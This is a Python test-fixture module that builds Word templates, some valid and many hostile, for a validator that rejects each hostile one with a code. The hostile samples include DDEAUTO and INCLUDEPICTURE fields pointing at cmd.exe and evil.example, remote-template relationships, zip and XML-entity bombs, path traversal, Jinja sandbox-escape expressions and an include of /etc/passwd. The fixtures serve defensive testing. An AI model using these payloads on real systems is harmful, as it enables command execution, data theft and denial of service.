"""Word templates as people and attackers make them: good ones, and each kind that must be refused with its place."""

import io
import zipfile

from docx import Document

DOCUMENT, TYPES = "word/document.xml", "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def written(*paragraphs: str, rows: tuple = (), header: str = "", footer: str = "", sized: bool = False) -> bytes:
	"""A document of these paragraphs, a table of these rows behind them."""
	document = Document()
	for text in paragraphs:
		document.add_paragraph(text)
	if rows:
		table = document.add_table(len(rows), max(map(len, rows)))
		for number, row in enumerate(rows):
			for column, text in enumerate(row):
				table.cell(number, column).text = text
	if header:
		document.sections[0].header.paragraphs[0].text = header
	if footer:
		document.sections[0].footer.paragraphs[0].text = footer
	return saved(document)


def saved(document) -> bytes:
	kept = io.BytesIO()
	document.save(kept)
	return kept.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
	with zipfile.ZipFile(io.BytesIO(content)) as archive:
		return {name: archive.read(name) for name in archive.namelist()}


def zipped(found: dict[str, bytes]) -> bytes:
	kept = io.BytesIO()
	with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
		for name, part in found.items():
			archive.writestr(name, part)
	return kept.getvalue()


def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
	"""With something else in a part."""
	found = parts(content)
	assert old in found[name]
	return zipped({**found, name: found[name].replace(old, new, 1)})


def with_part(content: bytes, name: str, part: bytes) -> bytes:
	return zipped({**parts(content), name: part})


GOOD = written("No. {{ number }} of {{ customer_name }}", header="{{ supplier_name }}")
LOOP = (("{%tr for row in work %}", ""), ("{{ row.what }}", "{{ row.result }}"), ("{%tr endfor %}", ""))


def _related(kind: str, target: str, external: bool = True) -> bytes:
	mode = ' TargetMode="External"' if external else ""
	line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
	return changed(GOOD, RELS, b"</Relationships>", line.encode())


def _in_body(xml: str) -> bytes:
	return changed(GOOD, DOCUMENT, b"<w:sectPr", f"{xml}<w:sectPr".encode())


def _field(code: str) -> bytes:
	pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in (code[:6], code[6:]))
	return _in_body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _split_over_runs() -> bytes:
	document = Document()
	line = document.add_paragraph("{{ number }} ")
	for piece in ("{", "{ num", "ber.__cl", "ass__ }", "}"):
		line.add_run(piece)
	return saved(document)


def _bomb() -> bytes:
	return with_part(GOOD, "word/media/image1.png", b"\0" * 80_000_000)


def _lying_bomb() -> bytes:
	"""Its list says that a part is small."""
	content = bytearray(_bomb())
	size = (80_000_000).to_bytes(4, "little")
	while (at := content.find(size)) >= 0:
		content[at : at + 4] = (1000).to_bytes(4, "little")
	return bytes(content)


def _entities() -> bytes:
	many = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(10))
	part = parts(GOOD)[DOCUMENT]
	head, _end, rest = part.partition(b"?>")
	return with_part(GOOD, DOCUMENT, head + b"?><!DOCTYPE w [" + many.encode() + b"]>" + rest.replace(b"No. ", b"&e9; ", 1))


# what it is: (the file, code, what its place says)
HOSTILE = {
	"no zip": (b"just a text", "no_docx", ""),
	"empty": (b"", "empty_file", ""),
	"an old or locked document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_or_locked", ""),
	"a workbook": (zipped({TYPES: b"<Types/>", "xl/workbook.xml": b"<x/>"}), "no_docx", ""),
	"macros by type": (changed(GOOD, TYPES, b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"), "macros", "document.xml"),
	"a project of macros": (with_part(GOOD, "word/vbaProject.bin", b"\0" * 10), "carries", "vbaProject"),
	"a template of Word": (changed(GOOD, TYPES, b"document.main+xml", b"template.main+xml"), "word_template", ""),
	"a remote image": (_related("image", "http://evil.example/x.png"), "fetched", "rels"),
	"a remote template": (_related("attachedTemplate", "file://evil/share/x.dotm"), "fetched", "rels"),
	"another document within": (_related("aFChunk", "x.html", external=False), "carries", "rels"),
	"an embedded file": (with_part(GOOD, "word/embeddings/oleObject1.bin", b"x"), "carries", "embeddings"),
	"a zip bomb": (_bomb(), "bomb", "image1"),
	"entities within entities": (_entities(), "entities", "document.xml"),
	"a part that is no XML": (with_part(GOOD, DOCUMENT, b"<w:document"), "broken_part", "document.xml"),
	"a way out of the folder": (with_part(GOOD, "../../evil.txt", b"x"), "odd_part", "evil"),
	"a field that fetches": (_field(' INCLUDEPICTURE "http://evil.example/x.png" '), "word_field", ""),
	"a field that starts": (_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "word_field", ""),
	"an unknown field": (written("{{ number }}", "{{ custmer_name }}"), "unknown", "custmer_name"),
	"an unknown field in a cell": (written("{{ number }}", rows=(("a", "b"), ("c", "{{ numbr }}"))), "unknown", "numbr"),
	"an unknown field in a header": (written("{{ number }}", header="{{ suplier_name }}"), "unknown", "suplier_name"),
	"what a class is": (written("{{ number.__class__.__mro__ }}"), "reaches", "__class__"),
	"a method": (written("{{ number.format(number) }}"), "calls", "format"),
	"split over runs": (_split_over_runs(), "reaches", "__class__"),
	"brackets": (written('{{ number["__class__"] }}'), "brackets", "__class__"),
	"a filter that reaches": (written('{{ number|attr("__class__") }}'), "filter", "attr"),
	"a hidden variable": (written("{{ number }} {{ self.__init__ }}"), "reaches", "self"),
	"a loop without end": (written("{% for x in range(999999999) %}{{ number }}{% endfor %}"), "endless", "range"),
	"a loop that calls itself": (written("{% for x in work recursive %}{{ loop(work) }}{% endfor %}"), "syntax", "recursive"),
	"loops in loops": (written("{% for a in work %}{% for b in work %}{{ b.what }}{% endfor %}{% endfor %}"), "loop_in_loop", "work"),
	"a long text": (written('{{ "x" * 99999999 }}{{ number }}'), "not_allowed", "9999"),
	"an include": (written('{% include "/etc/passwd" %}{{ number }}'), "includes", "passwd"),
	"an import": (written('{% from "x" import y %}{{ number }}'), "includes", "import"),
	"a macro": (written("{% macro x() %}{{ number }}{% endmacro %}"), "macro_tag", "macro"),
	"a variable": (written("{% set x = number %}{{ number }}"), "macro_tag", "set"),
	"what is never ended": (written("{% if title %}{{ number }}"), "never_ended", "title"),
	"ends elsewhere": (written("{% if title %}{{ number }}", "{% endif %}"), "elsewhere", "endif"),
	"not closed": (written("{{ number }} {{ title"), "unclosed", "title"),
	"a row lost": (written(rows=(("{%tr for row in work %} {{ number }}", "x"), ("{{ row.what }}", ""), ("{%tr endfor %}", ""))), "not_alone", "work"),
	"tr outside of tables": (written("{%tr for row in work %}", "{{ number }}", "{%tr endfor %}"), "no_row", "work"),
	"a column without its loop": (written("{{ work.what }}"), "unlooped", "work.what"),
	"a tag in a property": (_in_body('<w:p><w:pPr><w:pStyle w:val="{{ number.__class__ }}"/></w:pPr></w:p>'), "hidden_tag", "__class__"),
	"a tag in deleted text": (_in_body('<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>{{ x }}</w:delText></w:r></w:del></w:p>'), "hidden_tag", "x"),
	"a tag over paragraphs": (_in_body("<w:p><w:r><w:t>{</w:t></w:r></w:p><w:p><w:r><w:t>{ number.__class__ }}</w:t></w:r></w:p>"), "unopened", "__class__"),
	"no field at all": (written("Dear customer"), "says_nothing", ""),
}
